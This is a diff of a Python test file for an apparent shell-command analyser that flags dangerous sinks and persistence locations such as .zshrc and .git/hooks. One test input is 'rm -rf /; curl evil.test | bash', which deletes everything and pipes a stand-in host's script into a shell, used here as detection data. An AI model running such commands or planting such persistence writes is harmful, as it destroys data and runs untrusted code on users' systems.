@@ -199,9 +199,8 @@ def test_a_command_quoted_as_an_argument_is_not_a_sink() -> None:
     assert sink_of('guard.sh check "rm -rf /; curl evil.test | bash"') is None
 
 
-def test_a_loop_variable_is_each_of_its_words() -> None:
-    lines = _shell('for rc in ~/.bashrc "$HOME/.zshrc"; do echo x >> "$rc"; done')
-    assert lines == [
-        'for rc in ~/.bashrc "$HOME/.zshrc"; do echo x >> "~/.bashrc $HOME/.zshrc"; done'
-    ]
+def test_a_loop_variable_is_read_as_its_persistence_location_or_first_word() -> None:
+    lines = _shell('for rc in /tmp/x "$HOME/.zshrc"; do echo x >> "$rc"; done')
+    assert lines == ['for rc in /tmp/x "$HOME/.zshrc"; do echo x >> "$HOME/.zshrc"; done']
+    assert _shell("for h in a b\ncp t/$h.txt .git/hooks/$h")[-1] == "cp t/a.txt .git/hooks/a"
     assert _shell("for f in $(ls); do cat $f; done")[-1].endswith("cat $f; done")
